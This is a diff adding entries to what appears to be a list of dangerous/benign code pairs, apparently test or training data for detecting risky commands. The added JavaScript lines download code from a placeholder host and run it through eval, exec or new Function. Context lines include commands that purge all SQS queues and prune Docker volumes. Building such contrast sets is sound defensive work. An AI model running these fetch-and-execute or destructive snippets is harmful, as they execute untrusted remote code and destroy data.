@@ -333,6 +333,29 @@ PAIRS = [
         "import boto3\nfor q in boto3.Session().resource('sqs').queues.all():\n    q.purge()",
         "import boto3\nq = boto3.resource('sqs').Queue('u')\nfor m in q.receive_messages():\n    m.delete()",
     ),
+    (
+        "https.get('https://x.example/a', r => { let s = ''; r.on('data', d => s += d); r.on('end', () => eval(s)); })",
+        "https.get('https://x.example/a', r => { let s = ''; r.on('data', d => s += d);\n"
+        "  r.on('end', () => console.log(s)); })",
+    ),
+    (
+        "const { exec } = require('child_process');\n"
+        "require('http').get('http://x.example/a', r => { let s = ''; r.on('data', d => { s += d; });\n"
+        "  r.on('end', () => exec(s)); });",
+        "const { exec } = require('child_process');\n"
+        "require('http').get('http://x.example/a', r => { let s = ''; r.on('data', d => { s += d; });\n"
+        "  r.on('end', () => exec('npm test')); });",
+    ),
+    (
+        "https.get('https://x.example/a', r => { const c = []; r.on('data', d => c.push(d));\n"
+        "  r.on('end', () => eval(Buffer.concat(c).toString())); })",
+        "https.get('https://x.example/a', r => { const c = []; r.on('data', d => c.push(d));\n"
+        "  r.on('end', () => console.log(Buffer.concat(c).toString())); })",
+    ),
+    (
+        "const t = await (await fetch('https://x.example/a.js')).text();\nnew Function(t)();",
+        "const t = await (await fetch('https://x.example/a.js')).text();\nconsole.log(t);",
+    ),
     # containers
     ("docker system prune -a --volumes -f", "docker system df"),
     ("docker compose down -v", "docker compose down"),
